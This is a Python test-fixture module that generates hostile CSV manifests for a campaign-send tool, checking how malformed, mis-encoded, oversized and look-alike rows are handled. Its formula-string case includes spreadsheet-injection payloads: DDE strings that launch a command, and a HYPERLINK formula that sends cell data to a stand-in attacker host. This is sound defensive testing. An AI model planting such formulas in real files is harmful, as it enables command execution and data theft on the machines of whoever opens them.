"""A generated corpus of hostile manifests, each built as bytes with its expected outcome.

This module has the case model, the builder and the CSV cases; hostile_corpus_files.py
has the whole-file, gzip and JSONL cases and ``corpus()``, the list the tests run.

Every ``Case`` says what a cron user should get: which lines are created (and the exact
campaign_id/send_id Braze must receive, decoded from the manifest's own bytes), which lines
fail with which error code, which are duplicates, or that the whole file is refused (exit
2, one line naming the file). The decisions, per kind of input:

- a malformed, mis-encoded, oversized or invalid row fails alone (exit 1); the rows around
  it are sent as if it were not there;
- an empty CSV (no header) is refused (exit 2): an export that produced nothing is a
  broken export, and a silent success would hide it; a header-only CSV, an empty JSONL
  (JSONL has no header) or a file of blank lines is a run with nothing to do (exit 0);
- a truncated or corrupt gzip: the rows before the damage are processed, then one
  ``unreadable`` failure names the file and the line from which nothing was read (exit 1);
- a header that is unusable (no campaign_id, not UTF-8, CR-only line ends, longer than
  max_row_bytes) is refused before anything is sent (exit 2).
"""

from __future__ import annotations

from dataclasses import dataclass, field

#: The default ``max_row_bytes``, as the product has it (a test must not import it from the
#: module it checks, or a change there would go unseen).
ROW_LIMIT = 1024 * 1024


@dataclass(frozen=True, slots=True)
class Created:
    """A line Braze must receive exactly this campaign_id and send_id for (None: generated)."""

    line: int
    campaign_id: str
    send_id: str | None


@dataclass(frozen=True, slots=True)
class Failed:
    """A line that must fail with ``error`` (and ``field`` when validation names one)."""

    line: int
    error: str
    field: str | None = None


@dataclass(frozen=True, slots=True)
class Case:
    """One hostile manifest and what a run of it must produce."""

    name: str
    suffix: str
    data: bytes
    created: tuple[Created, ...] = ()
    failed: tuple[Failed, ...] = ()
    duplicates: tuple[int, ...] = ()
    #: A fragment of the one-line message when the whole file is refused (exit 2).
    refused: str | None = None
    #: Pass-through values results.jsonl must hold byte-exact: (line, column, value).
    passed_through: tuple[tuple[int, str, str], ...] = ()

    @property
    def exit_code(self) -> int:
        """2 refused, 1 some rows failed, 0 otherwise."""
        if self.refused is not None:
            return 2
        return 1 if self.failed else 0

    @property
    def rows_total(self) -> int:
        """How many rows the outputs must account for."""
        return len(self.created) + len(self.failed) + len(self.duplicates)


@dataclass
class Builder:
    """Accumulates a manifest's bytes and the expected fate of each record, by line."""

    parts: list[bytes] = field(default_factory=list)
    line: int = 1
    created: list[Created] = field(default_factory=list)
    failed: list[Failed] = field(default_factory=list)
    duplicates: list[int] = field(default_factory=list)
    passed: list[tuple[int, str, str]] = field(default_factory=list)

    def raw(self, data: bytes) -> int:
        """Append bytes as they are; return the line they start on."""
        start = self.line
        self.parts.append(data)
        self.line += data.count(b"\n")
        return start

    def good(self, record: bytes, campaign_id: bytes | str, send_id: bytes | str | None) -> int:
        """A record Braze must receive: ids given as the bytes (or text) the file holds."""
        start = self.raw(record)
        cid = campaign_id.decode("utf-8") if isinstance(campaign_id, bytes) else campaign_id
        self.created.append(Created(start, cid, _text(send_id) or None))
        return start

    def bad(self, record: bytes, error: str, field: str | None = None) -> int:
        """A record that must fail with ``error``."""
        start = self.raw(record)
        self.failed.append(Failed(start, error, field))
        return start

    def duplicate(self, record: bytes) -> None:
        """A record repeating an earlier pair."""
        self.duplicates.append(self.raw(record))

    def case(self, name: str, suffix: str) -> Case:
        """The finished case."""
        return Case(
            name,
            suffix,
            b"".join(self.parts),
            tuple(self.created),
            tuple(self.failed),
            tuple(self.duplicates),
            passed_through=tuple(self.passed),
        )


def _text(value: bytes | str | None) -> str | None:
    """The text a value's bytes decode to (what Braze must receive)."""
    if value is None:
        return None
    return value.decode("utf-8") if isinstance(value, bytes) else value


def cell(value: bytes | str) -> bytes:
    """One CSV field, quoted (RFC 4180) when it holds a comma, quote, CR or LF."""
    data = value.encode("utf-8") if isinstance(value, str) else value
    if any(c in data for c in (b",", b'"', b"\r", b"\n")):
        return b'"' + data.replace(b'"', b'""') + b'"'
    return data


def record(*values: bytes | str, eol: bytes = b"\n") -> bytes:
    """A CSV record of ``values``."""
    return b",".join(cell(v) for v in values) + eol


# --- CSV: parsing ----------------------------------------------------------------------


def csv_malformed() -> Case:
    """Quoting broken in every way the csv module knows, between good rows."""
    b = Builder()
    b.raw(b"campaign_id,send_id,note\n")
    b.good(b"ok-1,s1,n\n", "ok-1", "s1")
    b.bad(b'bad-1,"s"x,n\n', "malformed_csv")  # text after a closing quote
    b.good(b'quote"inside,s2,n\n', 'quote"inside', "s2")  # a quote mid-field is data
    b.bad(b"bad\r2,s3,n\n", "malformed_csv")  # a CR in an unquoted field
    b.good(b'"ok-2","s4","n"\n', "ok-2", "s4")
    b.bad(b'"bad-3"junk,s5,n\n', "malformed_csv")
    b.good(b"ok-3,s6,n\n", "ok-3", "s6")
    b.bad(b'bad-4,s7,"never closed\n', "malformed_csv")  # swallows the rest: last
    return b.case("csv_malformed_quoting", ".csv")


def csv_wrong_columns() -> Case:
    """Too few, too many, one, a trailing comma, a line of spaces."""
    b = Builder()
    b.raw(b"campaign_id,send_id,note\n")
    b.bad(b"few,s1\n", "wrong_column_count")
    b.good(b"ok-1,s1,n\n", "ok-1", "s1")
    b.bad(b"many,s2,n,extra,more\n", "wrong_column_count")
    b.bad(b"alone\n", "wrong_column_count")
    b.bad(b"trailing,s3,n,\n", "wrong_column_count")
    b.bad(b"   \n", "wrong_column_count")
    b.good(b"ok-2,s2,n\n", "ok-2", "s2")
    return b.case("csv_wrong_column_count", ".csv")


def csv_invalid_utf8() -> Case:
    """Bytes that are not UTF-8 in each column; the rows around are untouched."""
    b = Builder()
    b.raw(b"campaign_id,send_id,note\n")
    b.good(b"ok-1,s1,n\n", "ok-1", "s1")
    for bad in (
        b"c\xff,s,n\n",  # never valid
        b"c\xc3,s,n\n",  # a truncated two-byte sequence
        b"c\xc0\xaf,s,n\n",  # an overlong '/'
        b"c\xed\xa0\x80,s,n\n",  # an encoded surrogate (CESU-8)
        b"c,s,caf\xe9\n",  # Latin-1 in a pass-through column still refuses the row
        b"c,s\xf4\x90\x80\x80,n\n",  # above U+10FFFF
    ):
        b.bad(bad, "invalid_utf8")
    b.good("ok-2,s2,café\n".encode(), "ok-2", "s2")
    return b.case("csv_invalid_utf8", ".csv")


def csv_nul_and_controls() -> Case:
    """NUL and other control characters: refused in ids, kept in pass-through columns."""
    b = Builder()
    b.raw(b"campaign_id,send_id,note\n")
    b.bad(b"c\x00nul,s1,n\n", "control_character", "campaign_id")
    b.bad(b"c-ok,s\x00,n\n", "not_ascii", "send_id")
    line = b.good(b"c-nul-note,s2,a\x00b\n", "c-nul-note", "s2")
    b.passed.append((line, "note", "a\x00b"))
    b.bad(b"c\x1besc,s3,n\n", "control_character", "campaign_id")
    b.bad(b"c\x7fdel,s4,n\n", "control_character", "campaign_id")
    b.bad("c\x85nel,s5,n\n".encode(), "control_character", "campaign_id")
    b.bad(b"c\ttab,s6,n\n", "control_character", "campaign_id")
    b.bad(record("two\nlines", "s7", "n"), "control_character", "campaign_id")
    b.bad(record("cr\r", "s8", "n"), "control_character", "campaign_id")
    b.bad(record("c-tab-sid", "s\t9", "n"), "not_ascii", "send_id")
    line = b.good(record("c-crlf-note", "s10", "a\r\nb\rc"), "c-crlf-note", "s10")
    b.passed.append((line, "note", "a\r\nb\rc"))
    return b.case("csv_nul_and_controls", ".csv")


def csv_bom_crlf() -> Case:
    """A BOM and CRLF line ends: the first campaign_id carries no BOM."""
    b = Builder()
    b.raw(b"\xef\xbb\xbfcampaign_id,send_id\r\n")
    b.good(b"first,s1\r\n", "first", "s1")
    b.good(b"second,s2\r\n", "second", "s2")
    b.good(b'"third","s3"\r\n', "third", "s3")
    return b.case("csv_bom_crlf", ".csv")


def csv_mixed_line_endings() -> Case:
    """LF and CRLF mixed, blank lines of both kinds, multi-line quoted values of both."""
    b = Builder()
    b.raw(b"campaign_id,send_id,note\r\n")
    b.good(b"m1,s1,n\n", "m1", "s1")
    b.raw(b"\r\n")
    b.good(b"m2,s2,n\r\n", "m2", "s2")
    b.raw(b"\n\n")
    line = b.good(b'm3,s3,"one\r\ntwo\nthree\rfour"\n', "m3", "s3")
    b.passed.append((line, "note", "one\r\ntwo\nthree\rfour"))
    b.good(b"m4,s4,n", "m4", "s4")  # no line end at all
    return b.case("csv_mixed_line_endings", ".csv")


def csv_many_columns() -> Case:
    """20,000 columns: every one passes through."""
    names = [f"col{i:05d}" for i in range(2, 20_000)]
    b = Builder()
    b.raw(record("campaign_id", "send_id", *names))
    for i in range(3):
        values = [f"v{i}-{n}" for n in range(len(names))]
        line = b.good(record(f"wide-{i}", f"s{i}", *values), f"wide-{i}", f"s{i}")
        b.passed.append((line, names[-1], values[-1]))
    return b.case("csv_many_columns", ".csv")


# --- CSV: values that must reach Braze byte-exact ---------------------------------------

PUNCTUATION_64 = "".join(chr(c) for c in range(0x21, 0x7F))[:64]


def send_ids() -> Case:
    """send_id at the 64-character bound and past it, non-ASCII, spaces, empty, repeated."""
    b = Builder()
    b.raw(b"campaign_id,send_id,note\n")
    b.good(record("sid-64", "x" * 64, "n"), "sid-64", "x" * 64)
    b.good(record("sid-punct", PUNCTUATION_64, "n"), "sid-punct", PUNCTUATION_64)
    b.bad(record("sid-65", "x" * 65, "n"), "too_long", "send_id")
    b.bad(record("sid-65-ascii-61+4", "x" * 61 + "é" * 4, "n"), "too_long", "send_id")
    b.bad(record("sid-accent", "sé", "n"), "not_ascii", "send_id")
    b.bad(record("sid-nbsp", "s\u00a0", "n"), "not_ascii", "send_id")
    b.bad(record("sid-fullwidth", "ｓ１", "n"), "not_ascii", "send_id")
    b.bad(record("sid-emoji", "s🙂", "n"), "not_ascii", "send_id")
    b.bad(record("sid-rlo", "s\u202e1", "n"), "not_ascii", "send_id")
    b.bad(record("sid-64-nonascii", "é" * 64, "n"), "not_ascii", "send_id")
    b.good(record("sid-spaces", " s p ", "n"), "sid-spaces", " s p ")
    b.good(record("sid-empty", "", "n"), "sid-empty", None)
    b.good(record("sid-empty", "", "n"), "sid-empty", None)  # no send_id: not a repeat
    b.good(record("sid-rep", "r1", "n"), "sid-rep", "r1")
    b.duplicate(record("sid-rep", "r1", "other note"))
    return b.case("send_ids", ".csv")


CONFUSABLE_IDS = (
    "саmpaign-cyrillic-a",  # Cyrillic а (U+0430), looks like Latin a
    "campaign-greek-\u03bf",  # Greek omicron
    "ｃａｍｐａｉｇｎ-fullwidth",
    "\u202edi-ngiapmac",  # RIGHT-TO-LEFT OVERRIDE first
    "campaign\u200f-rlm",  # RIGHT-TO-LEFT MARK
    "\u202acampaign-lre\u202c",  # LEFT-TO-RIGHT EMBEDDING ... POP
    "\u2067campaign-rli\u2069",  # isolates
    "حملة-arabic",
    "campaign\u200b-zwsp",
    "campaign-\U0001f469\u200d\U0001f4bb-zwj",
    "caf\u00e9-nfc",
    "cafe\u0301-nfd",  # the same word decomposed: a different id, sent as is
    "\ufeffcampaign-bom-char",  # U+FEFF inside a value, not at the file's start
    "campaign\u2028line-separator",
    "𝔠𝔞𝔪𝔭𝔞𝔦𝔤𝔫-non-bmp",
    " leading-and-trailing ",
    "e\u0301\u0302\u0303\u0304-combining",
    "é" * 256,  # 256 characters, 512 bytes: at the bound
)


def confusable_campaign_ids() -> Case:
    """Look-alike, bidi-control and unnormalised campaign ids arrive as written."""
    b = Builder()
    b.raw(b"campaign_id,send_id,note\n")
    for i, cid in enumerate(CONFUSABLE_IDS):
        b.good(record(cid, f"s{i}", "n"), cid, f"s{i}")
    # The same send_id with the NFC and NFD forms and with/without a trailing space: four
    # distinct pairs, no duplicates.
    for cid in ("caf\u00e9", "cafe\u0301", "plain", "plain "):
        b.good(record(cid, "same", "n"), cid, "same")
    b.bad(record("é" * 257, "s", "n"), "too_long", "campaign_id")
    return b.case("confusable_campaign_ids", ".csv")


FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "'=already-quoted",
)


def formula_strings() -> Case:
    """Spreadsheet formulas as ids and as pass-through values: sent and kept as is."""
    b = Builder()
    b.raw(b"campaign_id,send_id,note\n")
    for i, formula in enumerate(FORMULAS):
        line = b.good(record(formula, f"=s{i}", formula), formula, f"=s{i}")
        b.passed.append((line, "note", formula))
    b.bad(record("\t=1+1", "s", "n"), "control_character", "campaign_id")
    b.bad(record("\r=1+1", "s", "n"), "control_character", "campaign_id")
    line = b.good(record("formula-note", "sn", "\t=1+1"), "formula-note", "sn")
    b.passed.append((line, "note", "\t=1+1"))
    return b.case("formula_strings", ".csv")


# --- CSV: sizes -------------------------------------------------------------------------


def long_line(size: int, *, name: str = "csv_long_line") -> Case:
    """A ``size``-byte line (over max_row_bytes) between good rows; a row just under it."""
    b = Builder()
    b.raw(b"campaign_id,send_id,note\n")
    b.good(b"before,s1,n\n", "before", "s1")
    b.bad(b"huge,s2," + b"x" * size + b"\n", "line_too_long")
    b.bad(b"y" * size + b",s3,n\n", "line_too_long")
    near = "z" * (ROW_LIMIT - 100)
    line = b.good(record("near-limit", "s4", near), "near-limit", "s4")
    b.passed.append((line, "note", near))
    b.good(b"after,s5,n\n", "after", "s5")
    return b.case(name, ".csv")


def too_long_values() -> Case:
    """Long ids under the row limit: too_long, echoed cut in failures.jsonl."""
    b = Builder()
    b.raw(b"campaign_id,send_id,note\n")
    b.bad(record("c" * 100_000, "s1", "n" * 100_000), "too_long", "campaign_id")
    b.bad(record("c-ok", "s" * 100_000, "n"), "too_long", "send_id")
    b.good(record("c-after", "s3", "n"), "c-after", "s3")
    return b.case("too_long_values", ".csv")


def unbalanced_quote(rows_after: int, note_size: int) -> Case:
    """An unclosed quote mid-file. Under max_row_bytes it swallows the rest as one bad row;
    past it, the reader restarts at the line after the one that crossed the limit."""
    opening = b'q-open,s1,"unclosed\n'
    rows = [b"q%05d,s,%s\n" % (i, b"n" * note_size) for i in range(rows_after)]
    past = len(opening) + sum(map(len, rows)) > ROW_LIMIT
    b = Builder()
    b.raw(b"campaign_id,send_id,note\n")
    b.good(b"q-before,s0,n\n", "q-before", "s0")
    b.bad(opening, "line_too_long" if past else "malformed_csv")
    budget = ROW_LIMIT - len(opening)
    crossed = False
    for i, row in enumerate(rows):
        if crossed:
            b.good(row, f"q{i:05d}", "s")
            continue
        crossed = len(row) > budget  # this line is skipped; the next starts afresh
        budget -= len(row)
        b.raw(row)  # part of the bad record
    return b.case(f"csv_unbalanced_quote_{'past' if past else 'under'}_limit", ".csv")
